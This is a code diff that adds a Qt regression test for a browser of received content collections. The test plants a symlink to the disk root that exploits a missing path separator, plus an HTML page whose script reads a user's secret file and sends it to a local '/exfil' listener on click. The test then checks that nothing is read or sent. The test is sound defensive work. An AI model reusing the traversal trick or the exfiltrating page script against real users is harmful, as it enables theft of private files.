@@ -1,8 +1,11 @@
+#include "Collection.h"
+#include "CollectionWriter.h"
 #include "ContentAddress.h"
 #include "LocalWebServer.h"
 #include "PageBrowser.h"
 #include "PageTestSupport.h"
 
+#include <QDir>
 #include <QFile>
 #include <QSignalSpy>
 #include <QTest>
@@ -299,6 +302,55 @@ TEST(HostilePages, APageReadsNothingOutsideItsCollection) {
                              "dentroWorker:DENTRO fora:falhou foraBlob:falhou foraFetch:falhou "
                              "foraImagem:bloqueada foraQuadro:semCarga foraWorker:falhou "
                              "sistema:falhou sistemaFetch:falhou subindo:falhou"));
+}
+
+// A received collection whose stored root has no closing separator and
+// ends in a link to the root of the disk: "x" + "labels.dat" once found the
+// sibling "xlabels.dat", and the whole disk became the collection. Its start
+// page reads a file of the user's and, on the first click, leads to a
+// listener with the contents in the address.
+TEST(HostilePages, AReceivedCollectionsRootLinkedToTheDiskReadsAndSendsNothing) {
+    LocalWebServer web;
+    QTemporaryDir place;
+    const QDir received(place.path());
+    const QString secret = place.filePath(QStringLiteral("segredo.txt"));
+    ContentFolder::writeFile(secret, "SEGREDO-DO-USUARIO");
+    ASSERT_TRUE(QFile::link(QStringLiteral("/"), received.filePath(QStringLiteral("x"))));
+    ContentFolder::writeFile(received.filePath(QStringLiteral("xlabels.dat")), "");
+    ContentFolder::writeFile(
+        received.filePath(QStringLiteral("xentrada2.htm")),
+        utf8(u"<!DOCTYPE html><html><head><title>inicio</title><style>"
+             u"a { position: absolute; left: 0; top: 0; width: 400px; height: 300px; "
+             u"display: block; }</style></head><body><a id='a' href='#'>entrar</a><script>"
+             u"var x = new XMLHttpRequest(); x.open('GET', '" +
+             QUrl::fromLocalFile(secret).toString() +
+             u"');"
+             u"x.onload = function () { document.getElementById('a').href = '" +
+             web.address(QStringLiteral("/exfil?d=")) +
+             u"' + encodeURIComponent(x.responseText); document.title = 'pronta'; };"
+             u"x.send();</script></body></html>"));
+    collection::writeCollection(received.filePath(QStringLiteral("db3.mdb")), {},
+                                received.filePath(QStringLiteral("x")));
+    UserBrowser desktop = everyScheme();
+    QSignalSpy opened(&desktop, &UserBrowser::opened);
+
+    const corvanel::ContentFolder folder = Collection::open(place.path()).contentFolder();
+    EXPECT_FALSE(folder.contains(QUrl::fromLocalFile(secret)));
+    PageBrowser browser;
+    browser.setContentRootSource([root = folder.rootText()] { return root; });
+    browser.resize(400, 300);
+    browser.show();
+    ASSERT_TRUE(QTest::qWaitForWindowExposed(&browser));
+    QSignalSpy loaded(&browser, &QWebEngineView::loadFinished);
+    browser.Navigate(ContentAddress::startPageAddress(folder.rootText()));
+    ASSERT_TRUE(loaded.wait(kPageTimeoutMs));
+    // Time to read, had the page been let read.
+    static_cast<void>(QTest::qWaitFor([&] { return browser.title() == u"pronta"; }, kQuietMs));
+    ASSERT_NE(browser.focusProxy(), nullptr);
+    QTest::mouseClick(browser.focusProxy(), Qt::LeftButton, {}, QPoint(200, 150));
+
+    EXPECT_EQ(openedAfterAQuietMoment(opened), QStringList());
+    EXPECT_TRUE(web.requests.isEmpty()) << web.requests.join(u' ').toStdString();
 }
 
 }  // namespace
